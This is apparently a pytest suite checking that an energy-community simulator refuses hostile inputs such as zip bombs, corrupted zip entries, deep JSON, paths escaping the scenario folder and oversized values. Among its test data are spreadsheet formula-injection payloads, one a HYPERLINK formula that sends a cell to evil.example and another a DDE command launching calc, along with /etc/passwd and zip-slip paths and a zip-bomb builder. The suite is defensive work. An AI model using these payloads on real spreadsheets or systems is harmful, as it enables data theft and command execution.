"""Hostile inputs (issue 17): every one is generated here, refused with one sentence, within bounded memory.

Cases: zip bombs (``scenario.json`` included), damaged bundle entries, deep JSON, per-file limits,
symlinks and paths leaving the scenario's folder, formula injection in the workbook, absurd values,
echoed fields, the results' origin. See ``docs/limits.md``.
"""

from __future__ import annotations

import io
import json
import os
import struct
import subprocess
import sys
import tracemalloc
import zipfile
import zlib

import numpy as np
import openpyxl
import pytest

from cer_core import limits
from cer_core import workspace as wsmod
from cer_core.api import run, validate
from cer_core.errors import CerInputError
from cer_core.export.xlsx import results_workbook
from cer_core.io import write_hourly_csv
from cer_core.io.hourly_csv import read_hourly_csv
from cer_core.scenario import parse_scenario
from cer_core.errors import excerpt
from cer_core.textsafe import neutralise_formula
from cer_core.timeaxis import iso_local_labels, n_hours
from cer_core.workspace import open_workspace, workspace_from_bytes
from conftest import ROOT
from test_scenario import YEAR, base_doc, base_files, mem_ws

MB = 1024 * 1024


# -------------------------------------------------------------------------------------------------
# helpers: bundles built and damaged in the test
# -------------------------------------------------------------------------------------------------

def bundle(doc: dict | None = None, files: dict | None = None, scenario_bytes: bytes | None = None,
           method=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as zf:
        zf.writestr("scenario.json", scenario_bytes if scenario_bytes is not None else json.dumps(doc or base_doc()))
        for name, data in (base_files() if files is None else files).items():
            zf.writestr(name, data)
    return buf.getvalue()


def padded_scenario_bundle(pad_bytes: int) -> bytes:
    """A bundle whose ``scenario.json`` is a valid scenario followed by ``pad_bytes`` spaces (≈ 1000:1 deflate),
    compressed in 1 MB steps so the test itself never holds the padding."""
    head = json.dumps(base_doc()).encode()
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc = zlib.crc32(head)
    parts = [comp.compress(head)]
    chunk = b" " * MB
    left = pad_bytes
    while left > 0:
        piece = chunk[:min(MB, left)]
        crc = zlib.crc32(piece, crc)
        parts.append(comp.compress(piece))
        left -= len(piece)
    parts.append(comp.flush())
    raw = b"".join(parts)
    size = len(head) + pad_bytes
    name = b"scenario.json"
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(raw), size, len(name), 0) + name
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(raw), size, len(name),
                          0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(raw), 0)
    return local + raw + central + end


def patch_entry(data: bytes, name: str, *, crc=None, size=None, method=None, flags=None, body=None) -> bytes:
    """``data`` with the headers (local and central) of entry ``name`` rewritten; ``body(raw) -> raw`` damages the
    compressed bytes in place."""
    out = bytearray(data)
    enc = name.encode()
    loc = out.find(b"PK\x03\x04" + b"")
    while loc >= 0 and bytes(out[loc + 30: loc + 30 + len(enc)]) != enc:
        loc = out.find(b"PK\x03\x04", loc + 4)
    cen = out.find(b"PK\x01\x02")
    while cen >= 0 and bytes(out[cen + 46: cen + 46 + len(enc)]) != enc:
        cen = out.find(b"PK\x01\x02", cen + 4)
    assert loc >= 0 and cen >= 0
    for value, lo, co, fmt in ((flags, 6, 8, "<H"), (method, 8, 10, "<H"), (crc, 14, 16, "<I"), (size, 22, 24, "<I")):
        if value is not None:
            struct.pack_into(fmt, out, loc + lo, value)
            struct.pack_into(fmt, out, cen + co, value)
    if body is not None:
        csize = struct.unpack_from("<I", out, loc + 18)[0]
        extra = struct.unpack_from("<H", out, loc + 28)[0]
        start = loc + 30 + len(enc) + extra
        out[start:start + csize] = body(bytes(out[start:start + csize]))
    return bytes(out)


def refused(fn, *args, code: str | None = None, **kwargs):
    """The one CerInputError ``fn`` raises (with ``code`` when given)."""
    with pytest.raises(CerInputError) as exc:
        fn(*args, **kwargs)
    if code:
        assert code in {p.code for p in exc.value.problems}, exc.value.message("en")
    return exc.value


def peak_mb(fn) -> float:
    tracemalloc.start()
    try:
        fn()
    except CerInputError:
        pass
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return peak / MB


def cli(*args, cwd=ROOT):
    return subprocess.run([sys.executable, "-m", "cer_core", "--lang", "en", *map(str, args)], capture_output=True,
                          text=True, cwd=cwd, env={**os.environ, "CER_STUDIO_OFFLINE": "1"})


# -------------------------------------------------------------------------------------------------
# High 1: zip bomb in scenario.json, unpacked total, sizes checked before decompressing
# -------------------------------------------------------------------------------------------------

def test_scenario_json_padded_with_spaces_is_refused_before_decompressing():
    data = padded_scenario_bundle(300 * MB)          # 300 MB of spaces, ≈ 0.3 MB on disk
    assert len(data) < 2 * MB
    exc = refused(workspace_from_bytes, data, "bomb.zip", code="scenario.too_large")
    assert "bomb.zip/scenario.json" in exc.message("en")
    assert peak_mb(lambda: workspace_from_bytes(data, "bomb.zip")) < 8


def test_scenario_json_counts_in_the_unpacked_total(monkeypatch):
    doc = json.dumps(base_doc()).encode()
    files = base_files()
    others = sum(len(v) for v in files.values())
    # the other entries fit; with scenario.json they do not (it used to be skipped in the sum)
    monkeypatch.setattr(wsmod, "MAX_BUNDLE_UNPACKED_BYTES", others + len(doc) // 2)
    refused(workspace_from_bytes, bundle(files=files), "b.zip", code="scenario.too_large")
    monkeypatch.setattr(wsmod, "MAX_BUNDLE_UNPACKED_BYTES", others + len(doc) + 10)
    assert workspace_from_bytes(bundle(files=files), "b.zip").doc["name"] == "Piccola CER"


def test_declared_sizes_that_lie_are_caught_while_streaming():
    big = b"0" * (3 * MB)
    data = bundle(files={**base_files(), "series/x.csv": big})
    # declared smaller than the data: the reader stops at the declared size and finds the mismatch
    lying = patch_entry(data, "series/x.csv", size=1000)
    exc = refused(workspace_from_bytes, lying, "l.zip", code="scenario.bad_entry")
    assert "series/x.csv" in exc.message("en")


def test_an_entry_over_the_per_file_limit_is_refused_by_its_declared_size(monkeypatch):
    monkeypatch.setattr(wsmod, "MAX_REFERENCED_FILE_BYTES", 64 * 1024)
    data = bundle(files={**base_files(), "series/big.csv": b"1" * (200 * 1024)})
    refused(workspace_from_bytes, data, "b.zip", code="scenario.too_large")


def test_too_many_entries(monkeypatch):
    monkeypatch.setattr(wsmod, "MAX_BUNDLE_ENTRIES", 3)
    refused(workspace_from_bytes, bundle(), "b.zip", code="scenario.too_many")


def test_zip_slip_entries_are_never_used():
    data = bundle(files={**base_files(), "../evil.csv": b"x", "/abs.csv": b"y"})
    ws = workspace_from_bytes(data, "b.zip")
    assert all(not k.startswith(("..", "/")) for k in ws.files) and "series/a.csv" in ws.files


# -------------------------------------------------------------------------------------------------
# High 2: per-file limits (hourly CSV, referenced files, open_workspace) before reading
# -------------------------------------------------------------------------------------------------

def test_hourly_csv_over_its_limit_is_refused_before_parsing():
    data = b"timestamp,kwh\n" + b"2025-01-01T00:00:00+01:00,1.0\n" * (limits.MAX_HOURLY_CSV_BYTES // 28 + 10)
    assert len(data) > limits.MAX_HOURLY_CSV_BYTES
    exc = refused(read_hourly_csv, data, "big.csv", YEAR, code="file.too_large")
    assert "big.csv" in exc.message("en") and "MB" in exc.message("en")
    assert peak_mb(lambda: read_hourly_csv(data, "big.csv", YEAR)) < 1


def test_hourly_csv_too_large_inside_a_bundle_names_the_member():
    files = base_files()
    files["series/b.csv"] = files["series/b.csv"] + b"\n" * (limits.MAX_HOURLY_CSV_BYTES + 10)
    exc = refused(run, workspace_from_bytes(bundle(files=files), "b.zip"), code="file.too_large")
    assert "members[1].load.path" in exc.message("en")


def test_referenced_file_on_disk_over_the_limit_is_refused_by_its_size(write_scenario):
    path = write_scenario(base_doc(), base_files())
    big = path.parent / "series" / "b.csv"
    with open(big, "r+b") as fh:                           # sparse: no disk, no memory
        fh.truncate(limits.MAX_REFERENCED_FILE_BYTES + 1)
    ws = open_workspace(path)
    assert peak_mb(lambda: ws.read_file("series/b.csv")) < 1
    refused(ws.read_file, "series/b.csv", code="scenario.too_large")
    proc = cli("simulate", path, "--out", path.parent / "out")
    assert proc.returncode == 2 and "Traceback" not in proc.stderr and "too large" in proc.stderr


def test_open_workspace_checks_the_size_before_reading(tmp_path):
    huge = tmp_path / "huge.json"
    with open(huge, "wb") as fh:
        fh.truncate(1536 * MB)                              # 1.5 GB, sparse
    exc = refused(open_workspace, huge, code="scenario.too_large")
    assert "1,536.0 MB" in exc.message("en")
    assert peak_mb(lambda: open_workspace(huge)) < 1
    bomb = tmp_path / "huge.zip"
    with open(bomb, "wb") as fh:
        fh.write(b"PK\x03\x04")
        fh.truncate(limits.MAX_BUNDLE_BYTES + 1)
    refused(open_workspace, bomb, code="scenario.too_large")


def test_open_workspace_refuses_fifos_and_devices(tmp_path):
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    refused(open_workspace, fifo, code="scenario.missing")
    refused(open_workspace, "/dev/zero", code="scenario.missing")


# -------------------------------------------------------------------------------------------------
# High 3: formula injection in the workbook
# -------------------------------------------------------------------------------------------------

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
                 "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def test_neutralise_formula_follows_owasp():
    for text in HOSTILE_NAMES:
        assert neutralise_formula(text) == "'" + text
    for text in ("Scuola Verdi", "", "1+1", "a=b", "CP-1"):
        assert neutralise_formula(text) == text


@pytest.mark.slow
def test_no_user_string_becomes_a_formula_in_the_workbook():
    doc = base_doc()
    doc["name"] = HOSTILE_NAMES[0]
    for i, m in enumerate(doc["members"]):
        m["name"] = HOSTILE_NAMES[1 + i]
    doc["members"][1]["id"] = "=1+2"
    doc["plants"][0]["name"] = HOSTILE_NAMES[3]
    doc["members"][0]["cabina"] = doc["members"][1]["cabina"] = "@cabina"
    doc["cabine"] = [{"id": "@cabina", "name": HOSTILE_NAMES[4]}]
    outcome = run(mem_ws(doc))
    data = results_workbook(outcome.results, "it", scenario=outcome.scenario)  # with the input sheets
    wb = openpyxl.load_workbook(io.BytesIO(data))
    formulas, texts = [], set()
    for ws in wb.worksheets:
        if ws.title == "Orario comunità":
            continue
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((ws.title, cell.coordinate, cell.value))
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert formulas == []
    for name in (HOSTILE_NAMES[0], HOSTILE_NAMES[1], HOSTILE_NAMES[2], HOSTILE_NAMES[3], "=1+2", "@cabina"):
        assert "'" + name in texts, name
    with zipfile.ZipFile(io.BytesIO(data)) as zf:     # no <f> element anywhere in the sheets' XML
        assert not any(b"<f>" in zf.read(n) or b"<f " in zf.read(n) for n in zf.namelist() if n.startswith("xl/"))


# -------------------------------------------------------------------------------------------------
# Medium 4: damaged entries and deep JSON → one line, exit 2
# -------------------------------------------------------------------------------------------------

def _flip(raw: bytes) -> bytes:
    return raw[:4] + bytes(b ^ 0xFF for b in raw[4:40]) + raw[40:]


DAMAGES = {
    "crc": dict(crc=0x12345678),
    "deflate": dict(body=_flip),
    "encrypted": dict(flags=0x1),
    "unknown_method": dict(method=99),
    "declared_smaller": dict(size=100),
}


@pytest.mark.parametrize("damage", list(DAMAGES))
@pytest.mark.parametrize("entry", ["scenario.json", "series/a.csv"])
def test_damaged_entries_are_one_sentence(damage, entry, tmp_path):
    data = patch_entry(bundle(), entry, **DAMAGES[damage])
    exc = refused(workspace_from_bytes, data, "d.zip")
    assert {p.code for p in exc.problems} <= {"scenario.bad_entry", "scenario.bad_zip"}
    path = tmp_path / "d.zip"
    path.write_bytes(data)
    proc = cli("simulate", path, "--out", tmp_path / "out")
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1 and "d.zip" in proc.stderr


@pytest.mark.slow
@pytest.mark.parametrize("text", [b"[" * 100_000 + b"]" * 100_000, b'{"a":' * 5000 + b"1" + b"}" * 5000,
                                  b'{"x":' + b"[" * 200 + b"]" * 200 + b"}"])
def test_deeply_nested_json_is_one_sentence(text, tmp_path):
    refused(workspace_from_bytes, text, "deep.json", code="scenario.too_deep")
    path = tmp_path / "deep.json"
    path.write_bytes(text)
    for command in (["validate", path], ["simulate", path, "--out", tmp_path / "o"]):
        proc = cli(*command)
        assert proc.returncode == 2 and "Traceback" not in proc.stderr
        assert len(proc.stderr.strip().splitlines()) == 1 and "nested deeper" in proc.stderr


# -------------------------------------------------------------------------------------------------
# Medium 5: cabina areas
# -------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("coords", [[[["a", None]]], [[[0, 0], [1, 1]]], "x", [[[200, 0], [1, 1], [1, 0], [200, 0]]],
                                    [[[0, 0, 0, 0], [1, 1], [1, 0], [0, 0]]]])
def test_garbage_cabina_area_coordinates_are_refused_by_the_schema(coords):
    doc = base_doc()
    doc["cabine"] = [{"id": "CP1", "area": {"type": "Polygon", "coordinates": coords}}]
    sc, problems = parse_scenario(doc)
    assert sc is None and problems and all(p.where.startswith("cabine[0].area") for p in problems)
    doc["cabine"][0]["area"] = {"type": "MultiPolygon", "coordinates": [coords]}
    sc, problems = parse_scenario(doc)
    assert sc is None and all(p.where.startswith("cabine[0].area") for p in problems)


def test_a_real_cabina_area_still_passes():
    doc = base_doc()
    ring = [[9.1, 45.4], [9.2, 45.4], [9.2, 45.5], [9.1, 45.4]]
    doc["cabine"] = [{"id": "CP1", "area": {"type": "Polygon", "coordinates": [ring]}}]
    sc, problems = parse_scenario(doc)
    assert sc is not None, [p.message("en") for p in problems]


# -------------------------------------------------------------------------------------------------
# Medium 6-7: symlinks out of the folder; validate says what simulate says
# -------------------------------------------------------------------------------------------------

@pytest.fixture
def outside(tmp_path):
    """A folder outside the scenario's, holding a valid hourly file."""
    other = tmp_path / "elsewhere"
    (other / "series").mkdir(parents=True)
    (other / "series" / "b.csv").write_bytes(base_files()["series/b.csv"])
    return other


def _scenario_dir(tmp_path, doc=None):
    folder = tmp_path / "cer"
    for rel, data in base_files().items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(data)
    (folder / "scenario.json").write_text(json.dumps(doc or base_doc()))
    return folder


@pytest.mark.parametrize("kind", ["file", "folder"])
def test_symlinks_leaving_the_folder_are_refused(tmp_path, outside, kind):
    folder = _scenario_dir(tmp_path)
    if kind == "file":
        (folder / "series" / "b.csv").unlink()
        (folder / "series" / "b.csv").symlink_to(outside / "series" / "b.csv")
    else:
        (folder / "series" / "a.csv").rename(tmp_path / "a.csv")
        doc = base_doc()
        doc["members"][1]["load"]["path"] = "linked/b.csv"
        (folder / "linked").symlink_to(outside / "series")
        (folder / "scenario.json").write_text(json.dumps(doc))
        (folder / "series" / "a.csv").write_bytes((tmp_path / "a.csv").read_bytes())
    ws = open_workspace(folder / "scenario.json")
    sc, problems = validate(ws)
    assert sc is None and [p.code for p in problems] == ["file.symlink_outside"]
    assert problems[0].where == "members[1].load.path"
    for command in ("validate", "simulate"):
        proc = cli(command, folder / "scenario.json", *(["--out", tmp_path / "o"] if command == "simulate" else []))
        assert proc.returncode == 2 and "symbolic link" in proc.stderr and "Traceback" not in proc.stderr
    assert not (tmp_path / "o").exists()


def test_a_symlink_inside_the_folder_still_works(tmp_path):
    folder = _scenario_dir(tmp_path)
    (folder / "series" / "b.csv").rename(folder / "series" / "real_b.csv")
    (folder / "series" / "b.csv").symlink_to(folder / "series" / "real_b.csv")
    assert run(open_workspace(folder / "scenario.json")).summary["totals"]["consumption_kwh"] > 0


@pytest.mark.parametrize("path, code", [("../elsewhere/series/b.csv", "file.outside"),
                                        ("/etc/passwd", "file.outside"), ("..\\x.csv", "file.outside"),
                                        ("\\\\server\\share\\x.csv", "file.outside"), ("a\x00.csv", "file.outside"),
                                        ("file:///etc/passwd", "file.missing"),
                                        ("series/nope.csv", "file.missing")])
def test_validate_agrees_with_simulate_and_says_what_the_path_is(tmp_path, outside, path, code):
    doc = base_doc()
    doc["members"][1]["load"]["path"] = path
    folder = _scenario_dir(tmp_path, doc)
    sc, problems = validate(open_workspace(folder / "scenario.json"))
    assert sc is None and [(p.where, p.code) for p in problems] == [("members[1].load.path", code)]
    outs = [cli("validate", folder / "scenario.json"), cli("simulate", folder / "scenario.json", "--out", tmp_path / "o")]
    word = "not found" if code == "file.missing" else "leaves the scenario's folder"
    for proc in outs:
        assert proc.returncode == 2 and word in proc.stderr and "members[1].load.path" in proc.stderr
    assert outs[0].stderr == outs[1].stderr


# -------------------------------------------------------------------------------------------------
# Low 8-9: absurd values
# -------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["1e309", "9" * 400, "-1e309", "2e6"])
def test_huge_values_in_an_hourly_csv_are_refused(value):
    labels = iso_local_labels(YEAR)
    rows = [f"{t},1.0" for t in labels]
    rows[5] = f"{labels[5]},{value}"
    data = ("timestamp,kwh\n" + "\n".join(rows) + "\n").encode()
    exc = refused(read_hourly_csv, data, "x.csv", YEAR, allow_negative=True, code="file.out_of_range")
    assert exc.problems[0].where == "x.csv:7"
    assert len(exc.message("en")) < 300


def test_huge_prices_in_a_price_file_are_refused_and_real_ones_pass():
    values = np.full(n_hours(YEAR), 120.0)
    values[3] = -50.0
    assert read_hourly_csv(write_hourly_csv(values, YEAR, "eur_mwh"), "p.csv", YEAR, "eur_mwh", True)[3] == -50.0
    values[3] = 1e300
    refused(read_hourly_csv, write_hourly_csv(values, YEAR, "eur_mwh", decimals=0), "p.csv", YEAR, "eur_mwh", True,
            code="file.out_of_range")


@pytest.mark.parametrize("field, value", [
    (("prices", "eur_mwh"), 1e300), (("prices", "eur_mwh"), -1e6), (("plants", 0, "kwp"), 1e12),
    (("members", 0, "contract_kw"), 1e9), (("economics", "avoided_price_eur_kwh", "household"), 1e6),
    (("economics", "gse_fee_plant_eur"), 1e300), (("rules", "valorisation_eur_mwh"), 1e300),
])
def test_absurd_amounts_get_one_sentence_each(field, value):
    doc = base_doc()
    node = doc
    for key in field[:-1]:
        node = node.setdefault(key, {}) if isinstance(key, str) else node[key]
    node[field[-1]] = value
    sc, problems = parse_scenario(doc)
    where = ".".join(str(k) for k in field).replace(".0.", "[0].")
    assert sc is None and [p.where for p in problems] == [where]
    assert problems[0].code == "schema.range" and "out of range" in problems[0].en


def test_bills_kwh_are_bounded():
    doc = base_doc()
    doc["members"][1]["load"] = {"source": "bills", "bills": [{"start": "2025-01-01", "end": "2025-01-31",
                                                               "total_kwh": 1e300}]}
    sc, problems = parse_scenario(doc)
    assert sc is None and problems[0].where == "members[1].load.bills[0].total_kwh"


def test_communities_above_the_documented_size_are_refused_with_a_sentence(monkeypatch):
    monkeypatch.setattr(limits, "MAX_MEMBERS", 1)
    sc, problems = validate(mem_ws())
    assert sc is None and [p.code for p in problems] == ["scenario.too_big"]
    assert "2 members: at most 1" in problems[0].en


# -------------------------------------------------------------------------------------------------
# Low 10-12: no path in results, echoed values cut
# -------------------------------------------------------------------------------------------------

def test_results_carry_no_local_folder(write_scenario):
    path = write_scenario(base_doc(), base_files())
    outcome = run(open_workspace(path))
    assert outcome.summary["scenario"]["origin"] == "scenario.json"
    text = json.dumps(outcome.summary)
    assert str(path.parent) not in text


def test_a_10_mb_field_is_echoed_as_a_short_excerpt(tmp_path):
    doc = base_doc()
    doc["site"]["comune"] = "x" * (10 * MB)
    path = tmp_path / "s.json"
    path.write_text(json.dumps(doc))
    proc = cli("validate", path)
    assert proc.returncode == 2 and len(proc.stderr) < 1000 and "site.comune" in proc.stderr
    doc = base_doc()
    doc["plants"][0]["member"] = "y" * (10 * MB)
    problems = parse_scenario(doc)[1]
    assert problems and all(len(p.message("en")) <= 500 for p in problems)
    assert excerpt("z" * 1000).endswith("(1,000 caratteri/characters)")


def test_docs_limits_md_states_the_limits_the_code_applies():
    text = (ROOT / "docs" / "limits.md").read_text(encoding="utf-8")

    def row(label: str) -> str:
        line = next((ln for ln in text.splitlines() if ln.startswith(f"| {label} |")), None)
        assert line is not None, label
        return line

    mb = lambda n: f"{n // MB} MB"  # noqa: E731
    assert mb(limits.MAX_SCENARIO_JSON_BYTES) in row("Scenario JSON on disk or uploaded")
    assert mb(limits.MAX_BUNDLE_BYTES) in row("`.zip` bundle as stored")
    assert mb(limits.MAX_BUNDLE_UNPACKED_BYTES) in row("Bundle unpacked, **`scenario.json` included**")
    assert f"{limits.MAX_BUNDLE_ENTRIES:,}" in row("Entries in a bundle")
    assert f"{limits.MAX_JSON_DEPTH} levels" in row("JSON nesting")
    assert mb(limits.MAX_REFERENCED_FILE_BYTES) in row(
        "A file the scenario refers to (meter export, bills, production, prices, weather)")
    assert mb(limits.MAX_HOURLY_CSV_BYTES) in row("The scenario's hourly CSV (`timestamp,kwh` / `timestamp,eur_mwh`)")
    assert f"{limits.MAX_HOURLY_KWH:,.0f}" in row("Hourly CSV `kwh`")
    assert f"{limits.MAX_PRICE_EUR_MWH:,.0f}" in row("Hourly CSV `eur_mwh` (prices)")
    assert f"{limits.MAX_MEMBERS:,}" in row("Members") and f"{limits.MAX_PLANTS:,}" in row("Plants")


def test_missing_originals_are_a_warning_not_a_refusal():
    doc = base_doc()
    doc["members"][1]["load"]["originals"] = [{"path": "members/b/originali/gone.csv"}]
    sc, problems = validate(mem_ws(doc))
    assert sc is not None and [(p.severity, p.code) for p in problems] == [("warning", "file.missing")]
    doc["members"][1]["load"]["originals"] = [{"path": "../escape.csv"}]
    outcome = run(mem_ws(doc))
    assert [w.code for w in outcome.warnings] == ["file.outside"]


def test_a_scenario_json_with_a_number_of_more_than_4300_digits_is_refused():
    """The defect the readers' property tests found in PVGIS JSON (tests/test_readers_properties.py): json.loads
    raised Python's ValueError (integer string conversion limit) instead of a refusal naming the file."""
    data = b'{"schema": "cer-studio/scenario@1", "year": ' + b"9" * 5000 + b"}"
    with pytest.raises(CerInputError) as exc:
        wsmod.workspace_from_bytes(data, "s.json")
    (p,) = exc.value.problems
    assert p.code == "scenario.json" and p.where == "s.json" and "4300" in p.it and "4300" in p.en
